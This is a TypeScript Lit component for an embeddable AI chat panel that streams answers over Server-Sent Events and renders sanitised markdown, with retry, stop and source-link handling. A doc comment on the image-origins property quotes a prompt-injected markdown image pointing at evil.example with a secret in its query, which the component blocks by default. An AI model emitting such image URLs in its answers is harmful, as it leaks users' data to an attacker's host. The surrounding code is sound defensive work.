import { LitElement, html, nothing, svg } from 'lit';
import type { PropertyValues, TemplateResult } from 'lit';
import { property, query } from 'lit/decorators.js';
import { repeat } from 'lit/directives/repeat.js';
import { ChatState, ChatStreamController, deriveStopEndpoint } from '../../controllers/chat-stream-controller.js';
import { AiChatDoneEvent } from '../../events/ai-chat-done-event.js';
import { AiChatErrorEvent } from '../../events/ai-chat-error-event.js';
import { AiChatRetryEvent } from '../../events/ai-chat-retry-event.js';
import { AiChatSendEvent } from '../../events/ai-chat-send-event.js';
import { AiChatStateEvent } from '../../events/ai-chat-state-event.js';
import { AiChatTokenEvent } from '../../events/ai-chat-token-event.js';
import { enhanceMarkdown } from '../../markdown/enhance-markdown.js';
import type { StreamingMarkdownOptions } from '../../markdown/streaming-markdown.js';
import { Route } from '../../protocol.js';
import type { ChatMessage } from '../../types/chat-message.js';
import { aiChatStyles } from './ai-chat.styles.js';
import { defaultStrings } from './default-strings.js';
import { markdown } from './markdown-directive.js';
import type { AiChatStrings } from './default-strings.js';

/** Extra request headers, or a (possibly async) function returning them, called once per request. */
export type AiChatHeaders = Record<string, string> | (() => Record<string, string> | Promise<Record<string, string>>);

/**
 * @summary A chat panel that streams AI answers over Server-Sent Events and renders them as sanitised markdown.
 *
 * @fires {AiChatSendEvent} ai-chat-send - Before a message is sent; cancelable. `detail.message` is the text.
 * @fires {AiChatTokenEvent} ai-chat-token - For every token appended. `detail.token`, `detail.messageId`.
 * @fires {AiChatDoneEvent} ai-chat-done - When an answer completes or is stopped. `detail.message`.
 * @fires {AiChatErrorEvent} ai-chat-error - When a request or stream fails. `detail.error`, `detail.fatal`.
 * @fires {AiChatRetryEvent} ai-chat-retry - When a reconnect is scheduled. `detail.attempt`, `detail.delay`.
 * @fires {AiChatStateEvent} ai-chat-state - When the connection state changes. `detail.state`.
 *
 * @slot header - Extra content in the header, after the heading.
 * @slot empty - Shown in the log while there are no messages.
 * @slot footer - Content under the composer (e.g. a disclaimer).
 *
 * @csspart panel - The chat panel (in launcher mode, the floating window).
 * @csspart header - The header bar.
 * @csspart heading - The heading text.
 * @csspart close - The close button (launcher mode only).
 * @csspart log - The scrolling message list (`role="log"`).
 * @csspart empty - The placeholder shown while there are no messages.
 * @csspart message - Every message bubble.
 * @csspart user - A user message bubble.
 * @csspart assistant - An assistant message bubble (rendered markdown).
 * @csspart code-block - A code block in an answer: language label, copy button and the `<pre>`.
 * @csspart code-language - The language label of a code block (from the fence info string).
 * @csspart copy-button - The "Copy code" button of a code block.
 * @csspart table - The horizontally scrolling box around a table in an answer.
 * @csspart status - The note under an answer that was stopped or failed.
 * @csspart reconnecting - "Reconnecting…", shown while a dropped stream waits to resume.
 * @csspart retry - The Retry button in the error, shown when a failed answer can be resumed.
 * @csspart thinking - The progress indicator shown before the first token.
 * @csspart sources - The list of sources under an answer.
 * @csspart source - One source link.
 * @csspart error - The in-widget error message (`role="alert"`).
 * @csspart composer - The form holding the input and buttons.
 * @csspart input - The message textarea.
 * @csspart send - The send button.
 * @csspart stop - The stop button, shown while an answer streams.
 * @csspart launcher - The floating button that opens the panel (launcher mode only).
 *
 * @cssprop [--ai-chat-accent=#2563eb] - Accent colour: send button, launcher, links, focus rings.
 * @cssprop [--ai-chat-bg=#ffffff] - Panel background (dark scheme: #0f172a).
 * @cssprop [--ai-chat-surface=#f8fafc] - Header and composer background (dark scheme: #1e293b).
 * @cssprop [--ai-chat-text=#0f172a] - Text colour (dark scheme: #e2e8f0).
 * @cssprop [--ai-chat-font=system-ui, sans-serif] - Font family.
 * @cssprop [--ai-chat-radius=12px] - Corner radius of the panel and bubbles.
 * @cssprop [--ai-chat-user-bg=#dbeafe] - User bubble background (dark scheme: #1e3a8a).
 * @cssprop [--ai-chat-assistant-bg=#f1f5f9] - Assistant bubble background (dark scheme: #1e293b).
 * @cssprop [--ai-chat-z-index=2147483000] - Stacking order of the launcher and its panel.
 * @cssprop [--ai-chat-shadow=0 12px 40px rgb(15 23 42 / 0.18)] - Shadow of the launcher and its panel.
 */
export class AiChat extends LitElement {
  static override styles = aiChatStyles;

  /** URL the question is POSTed to; the answer streams back as SSE. */
  @property() endpoint: string = Route.stream;

  /** Sent as `conversation_id`; a random id per element when not set. */
  @property({ attribute: 'conversation-id' }) conversationId: string | undefined;

  /** Title shown in the header. */
  @property() heading = 'Ask the docs';

  /** Placeholder of the input; defaults to `strings.placeholder`. */
  @property() placeholder: string | undefined;

  /** `inline` renders the panel in place; `launcher` renders a floating button that opens it. */
  @property({ reflect: true }) mode: 'inline' | 'launcher' = 'inline';

  /** Whether the launcher panel is open (launcher mode only). */
  @property({ type: Boolean, reflect: true }) open = false;

  /** How many times a broken stream is retried before giving up. */
  @property({ type: Number, attribute: 'max-retries' }) maxRetries = 3;

  /** Base delay in ms before a retry. */
  @property({ type: Number, attribute: 'retry-delay' }) retryDelay = 1000;

  /** A stream silent for this long (ms) counts as broken; `0` turns the check off. */
  @property({ type: Number, attribute: 'heartbeat-timeout' }) heartbeatTimeout = 45000;

  /** URL that is told to stop generating; derived from `endpoint` (`…/stream` → `…/stop`) when not set. */
  @property({ attribute: 'stop-endpoint' }) stopEndpoint: string | undefined;

  /**
   * Origins whose images may load inside answers, space-separated (`self` = the page's origin). Default: none, so a
   * prompt-injected `![](https://evil.example/?q=secret)` is shown as a link and never fetched (docs/security.md).
   */
  @property({
    attribute: 'image-origins',
    converter: {
      fromAttribute: (value: string | null) => (value ?? '').split(/\s+/).filter(Boolean),
      toAttribute: (value: string[]) => value.join(' '),
    },
  })
  imageOrigins: string[] = [];

  /** Keep the conversation across page loads. */
  @property({ type: Boolean }) persist = false;

  /** Connection state: `idle`, `connecting`, `streaming`, `retrying` or `error`. Read-only; reflected. */
  @property({ reflect: true }) state: ChatState = ChatState.idle;

  /** Extra request headers (e.g. `Authorization`), or a (possibly async) function returning them. */
  @property({ attribute: false }) headers: AiChatHeaders | undefined;

  /** Overrides of the UI text; missing keys fall back to English. */
  @property({ attribute: false }) strings: Partial<AiChatStrings> = {};

  @query('textarea') private input!: HTMLTextAreaElement;
  @query('[part~="log"]') private log!: HTMLElement;
  @query('[part~="launcher"]') private launcherButton: HTMLButtonElement | null | undefined;

  #fallbackConversationId: string | undefined;
  /** Whether the log was scrolled to (near) the bottom before the last markdown render. */
  #following = true;
  /** Options of every assistant bubble's markdown renderer: copy buttons and table scroll boxes after sanitising. */
  #rendererOptions: StreamingMarkdownOptions = {
    enhance: (fragment) => enhanceMarkdown(fragment, () => this.#strings),
  };

  #chat = new ChatStreamController(
    this,
    () => ({
      endpoint: this.endpoint,
      stopEndpoint: this.stopEndpoint || deriveStopEndpoint(this.endpoint),
      conversationId: this.conversationId || (this.#fallbackConversationId ??= crypto.randomUUID()),
      headers: () => this.#resolveHeaders(),
      maxRetries: this.maxRetries,
      retryDelay: this.retryDelay,
      heartbeatTimeout: this.heartbeatTimeout,
    }),
    {
      onState: (state) => this.dispatchEvent(new AiChatStateEvent({ state })),
      onToken: (token, messageId) => this.dispatchEvent(new AiChatTokenEvent({ token, messageId })),
      onDone: (message) => this.dispatchEvent(new AiChatDoneEvent({ message })),
      onError: (error, fatal) => this.dispatchEvent(new AiChatErrorEvent({ error, fatal })),
      onRetry: (attempt, delay) => this.dispatchEvent(new AiChatRetryEvent({ attempt, delay })),
    },
  );

  /** The conversation. `content` is raw markdown; setting it renders that history (and stops a running answer). */
  @property({ attribute: false })
  get messages(): ChatMessage[] {
    return this.#chat.messages;
  }
  set messages(value: ChatMessage[]) {
    this.#chat.setMessages(Array.isArray(value) ? value : []);
  }

  /** Sends `text` as the user and streams the answer. Resolves when the answer ends (or at once if cancelled). */
  async send(text: string): Promise<void> {
    const message = text.trim();
    if (!message) return;
    if (!this.dispatchEvent(new AiChatSendEvent({ message }))) return;
    await this.#chat.send(message);
  }

  /** Stops the answer being streamed; the partial text stays, marked stopped. */
  stop(): void {
    this.#chat.stop();
  }

  /**
   * Resumes the last answer that failed after its retries ran out, with the same `message_id` and the id of the last
   * event shown: the server continues it, or answers again in its place. The question is not sent a second time.
   */
  retry(): Promise<void> {
    return this.#chat.retry();
  }

  /** Stops any answer and empties the conversation. */
  clear(): void {
    this.#chat.clear();
  }

  protected override willUpdate(changed: PropertyValues<this>): void {
    // The controller owns the state; mirroring it here reflects it as an attribute.
    this.state = this.#chat.state;
    // Read by every block render; blocks already rendered keep the policy they were rendered with.
    if (changed.has('imageOrigins')) this.#rendererOptions.markdown = { imageOrigins: this.imageOrigins };
    if (changed.has('open') && this.mode === 'launcher' && changed.get('open') !== undefined) {
      this.updateComplete.then(() => (this.open ? this.input?.focus() : this.launcherButton?.focus()));
    }
  }

  protected override updated(): void {
    // Follow the answer as it grows, unless the reader scrolled up to read something earlier.
    const log = this.log;
    if (log && log.scrollHeight - log.scrollTop - log.clientHeight < 120) log.scrollTop = log.scrollHeight;
  }

  async #resolveHeaders(): Promise<Record<string, string>> {
    const headers = typeof this.headers === 'function' ? await this.headers() : this.headers;
    return { ...headers };
  }

  get #strings(): AiChatStrings {
    return { ...defaultStrings, ...this.strings };
  }

  #beforeMarkdown = (): void => {
    const log = this.log;
    this.#following = !log || log.scrollHeight - log.scrollTop - log.clientHeight < 120;
  };

  #afterMarkdown = (): void => {
    // Streaming answers grow between Lit updates (one render per frame): keep following them.
    const log = this.log;
    if (log && this.#following) log.scrollTop = log.scrollHeight;
  };

  private handleSubmit(event: SubmitEvent): void {
    event.preventDefault();
    this.#sendFromInput();
  }

  private handleKeydown(event: KeyboardEvent): void {
    if (event.key === 'Enter' && !event.shiftKey) {
      // While an IME composes (CJK input), Enter confirms the composition; it must not send half a word.
      if (event.isComposing || event.keyCode === 229) return;
      event.preventDefault();
      this.#sendFromInput();
    } else if (event.key === 'Escape' && this.#chat.busy) {
      event.preventDefault();
      event.stopPropagation();
      this.stop();
    }
  }

  private handleInput(): void {
    // Auto-grow for browsers without `field-sizing: content`; the CSS max-height caps it.
    const input = this.input;
    input.style.height = 'auto';
    input.style.height = `${input.scrollHeight + 2}px`;
  }

  private handlePanelKeydown(event: KeyboardEvent): void {
    if (event.key === 'Escape' && this.mode === 'launcher' && this.open) {
      event.preventDefault();
      this.open = false;
    }
  }

  private handleLauncherClick(): void {
    this.open = !this.open;
  }

  private handleClose(): void {
    this.open = false;
  }

  private handleRetry(): void {
    void this.retry();
  }

  private handleStop(): void {
    this.stop();
  }

  #sendFromInput(): void {
    const text = this.input.value;
    if (!text.trim()) return;
    this.input.value = '';
    this.input.style.height = '';
    void this.send(text);
  }

  override render(): TemplateResult {
    const s = this.#strings;
    const launcher = this.mode === 'launcher';
    return html`
      ${
        launcher
          ? html`<button
              part="launcher"
              type="button"
              aria-expanded=${this.open ? 'true' : 'false'}
              aria-controls="panel"
              aria-label=${this.open ? s.closeChat : s.openChat}
              @click=${this.handleLauncherClick}
            >
              <svg viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" aria-hidden="true">
                ${
                  this.open
                    ? svg`<path d="M6 6l12 12M18 6L6 18"></path>`
                    : svg`<path d="M21 12a8 8 0 0 1-11.6 7.1L4 21l1.9-5.4A8 8 0 1 1 21 12z"></path>`
                }
              </svg>
            </button>`
          : nothing
      }
      ${!launcher || this.open ? this.#renderPanel(s, launcher) : nothing}
    `;
  }

  #renderPanel(s: AiChatStrings, launcher: boolean): TemplateResult {
    const busy = this.#chat.busy;
    const error = this.#chat.error;
    return html`
      <section
        id="panel"
        part="panel"
        role=${launcher ? 'dialog' : 'region'}
        aria-labelledby="heading"
        @keydown=${this.handlePanelKeydown}
      >
        <header part="header">
          <h2 id="heading" part="heading">${this.heading}</h2>
          <slot name="header"></slot>
          ${
            launcher
              ? html`<button part="close" type="button" aria-label=${s.closeChat} @click=${this.handleClose}>
                  ${s.close}
                </button>`
              : nothing
          }
        </header>
        <div part="log" role="log" aria-busy=${busy ? 'true' : 'false'} tabindex="0" aria-label=${this.heading}>
          ${
            this.messages.length === 0
              ? html`<div part="empty"><slot name="empty">${s.empty}</slot></div>`
              : repeat(
                  this.messages,
                  (m) => m.id,
                  (m) => this.#renderMessage(m, s),
                )
          }
          ${this.#renderThinking(s, busy)}
        </div>
        ${this.#chat.reconnecting ? html`<div part="reconnecting" role="status">${s.reconnecting}</div>` : nothing}
        ${error ? html`<div part="error" role="alert">${error}</div>` : nothing}
        ${
          error && this.#chat.canRetry
            ? html`<button part="retry" type="button" @click=${this.handleRetry}>${s.retry}</button>`
            : nothing
        }
        <form part="composer" @submit=${this.handleSubmit}>
          <textarea
            part="input"
            rows="1"
            aria-label=${s.inputLabel}
            placeholder=${this.placeholder ?? s.placeholder}
            @keydown=${this.handleKeydown}
            @input=${this.handleInput}
          ></textarea>
          ${busy ? html`<button part="stop" type="button" @click=${this.handleStop}>${s.stop}</button>` : nothing}
          <button part="send" type="submit">${s.send}</button>
        </form>
        <slot name="footer"></slot>
      </section>
    `;
  }

  #renderThinking(s: AiChatStrings, busy: boolean): TemplateResult | typeof nothing {
    const last = this.messages.at(-1);
    const waiting = busy && last?.role === 'assistant' && last.content === '';
    const text = this.#chat.thinking ?? (waiting ? s.thinking : undefined);
    return text ? html`<div part="thinking" role="status">${text}</div>` : nothing;
  }

  #renderMessage(m: ChatMessage, s: AiChatStrings): TemplateResult {
    if (m.role === 'user') {
      return html`<div class="turn user" part="message user" aria-label=${s.you}>${m.content}</div>`;
    }
    // Streaming starts with an empty answer; the thinking indicator stands in for it until the first token.
    if (m.content === '' && m.status === 'streaming') return html``;
    const note = m.status === 'stopped' ? s.stopped : m.status === 'error' ? s.failed : '';
    return html`
      <div class="turn assistant">
        <div
          part="message assistant"
          data-status=${m.status ?? 'completed'}
          ${markdown(m.content, {
            streaming: m.status === 'streaming',
            renderer: this.#rendererOptions,
            beforeRender: this.#beforeMarkdown,
            afterRender: this.#afterMarkdown,
          })}
        ></div>
        ${
          m.sources?.length
            ? html`<ol part="sources" aria-label=${s.sources}>
                ${m.sources.map(
                  (src) =>
                    html`<li>
                      ${
                        src.url && isSafeLink(src.url)
                          ? html`<a part="source" href=${src.url} target="_blank" rel="noopener noreferrer"
                              >${src.title}</a
                            >`
                          : html`<span part="source">${src.title}</span>`
                      }
                    </li>`,
                )}
              </ol>`
            : nothing
        }
        ${note ? html`<span part="status">${note}</span>` : nothing}
      </div>
    `;
  }
}

/** Source URLs come from the server's retrieval results: only http(s) and relative links become clickable. */
function isSafeLink(url: string): boolean {
  return /^https?:/i.test(url) || !/^[a-z][a-z0-9+.-]*:/i.test(url.trim());
}
